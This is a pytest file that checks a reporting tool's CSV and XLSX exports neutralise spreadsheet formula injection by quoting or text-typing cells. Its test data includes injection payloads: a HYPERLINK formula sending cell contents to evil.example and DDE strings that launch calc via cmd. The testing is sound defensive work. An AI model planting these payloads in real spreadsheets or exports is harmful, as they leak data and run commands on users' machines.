"""Every CSV and XLSX the project writes keeps formula-like text as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sync_support import REGION, Platform, environment, run_cli, simulator

from ssj_bridge.errors import ExitCode
from ssj_bridge.report.spreadsheet import FORMULA_START, csv_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ROSTER_HEADER = "inspectorId,name,certNo,orgCode,regionCode,expertise,auxiliary,active,conflicts"


@pytest.fixture(scope="module")
def platform() -> Iterator[Platform]:
    with Platform.serving() as running:
        yield running


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote_and_other_values_stay(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell("威海某化工有限公司") == "威海某化工有限公司"
    assert csv_cell(-1) == -1 and csv_cell(None) is None


def test_exports_from_a_platform_and_an_import_write_no_cell_a_spreadsheet_would_run(
        platform: Platform, tmp_path: Path) -> None:
    """Names that came from the permit platform, a key it sent that was set aside, and people
    from an imported roster: `export … --format csv` writes each behind a `'`."""
    sim = simulator(12)
    platform.app = sim
    keys = sorted(sim.records)
    for key, text in zip(keys, HOSTILE, strict=False):
        sim.touch(key, orgName=text)
    bad = dict(sim.records[keys[-1]], permitNo="=cmd|' /C calc'!A0")
    sim.add(bad)
    url = f"sqlite:///{tmp_path / 'store.db'}"
    env = environment(platform.base_url, url)
    synced = run_cli(["sync"], env, tmp_path)
    assert synced.returncode == ExitCode.SET_ASIDE, synced.stderr
    roster = tmp_path / "roster.csv"
    roster.write_text("\n".join([ROSTER_HEADER] + [
        f'WH-{n:03d},"{text.replace(chr(34), chr(34) * 2)}",37100120190001{n:02d},'
        f"11371000MB2834567U,{REGION},大气,false,true," for n, text in enumerate(HOSTILE, 1)])
        + "\n", encoding="utf-8")
    imported = run_cli(["inspectors", "import", str(roster), "--by", "@admin"], env, tmp_path)
    assert imported.returncode == 0, imported.stderr

    # The roster import strips the white space around a value; the platform's names are kept.
    for what, column, expected in (("subjects", "name", HOSTILE),
                                   ("inspectors", "name", [t.strip() for t in HOSTILE]),
                                   ("quarantine", "key", ["=CMD|' /C CALC'!A0"])):
        done = run_cli(["export", what, "--format", "csv"], env, tmp_path)
        assert done.returncode == 0, done.stderr
        rows = cells(done.stdout)
        assert formula_cells(rows) == [], what
        written = [row[rows[0].index(column)] for row in rows[1:]]
        for text in expected:
            assert "'" + text.replace("\r", "\n") in [w.replace("\r", "\n") for w in written], (
                what, text)


def test_breaks_workbook_and_csv_share_the_rule(tmp_path: Path) -> None:
    """The breaks report writes through the same cells: CSV quoted, XLSX typed as text."""
    from ssj_bridge.report.breaks_export import COLUMNS, write_csv, write_xlsx

    rows = [{"platform": "permit", "entity": "permit", "key": text, "kind": "field_mismatch",
             "status": "open", "fields": {"orgName": {"store": text, "platform": "甲"}}}
            for text in HOSTILE]
    out = io.StringIO()
    write_csv(rows, out)
    assert formula_cells(cells(out.getvalue())) == []
    target = tmp_path / "breaks.xlsx"
    write_xlsx(rows, target)
    book = load_workbook(target)
    keys = [row[COLUMNS.index("key")] for row in book["breaks"].iter_rows(min_row=2)]
    assert [c.value for c in keys] == HOSTILE
    assert {c.data_type for c in keys} == {"s"}


def test_bureau_documents_type_formula_text_as_text(tmp_path: Path) -> None:
    """The documents a bureau files (annual plan, ledgers, statistics) share the XLSX rule."""
    from ssj_bridge.report.document import Column, Document, Section, Table, write_document

    table = Table("台账", (Column("name", "单位名称"), Column("count", "数量", number=True)),
                  tuple({"name": text, "count": n} for n, text in enumerate(HOSTILE)))
    document = Document(HOSTILE[0], (HOSTILE[1],), (Section("一", (HOSTILE[2],), (table,)),))
    write_document(document, xlsx=tmp_path / "doc.xlsx")
    book = load_workbook(tmp_path / "doc.xlsx")
    names = [row[0] for row in book["台账"].iter_rows(min_row=2)]
    assert [c.value for c in names] == HOSTILE
    assert {c.data_type for c in names} == {"s"}
    assert [row[1].value for row in book["台账"].iter_rows(min_row=2)] == list(range(6))
    cover = [row[0] for row in book["说明"].iter_rows() if row[0].value]
    assert [c.value for c in cover[:2]] == HOSTILE[:2] and {c.data_type for c in cover} == {"s"}
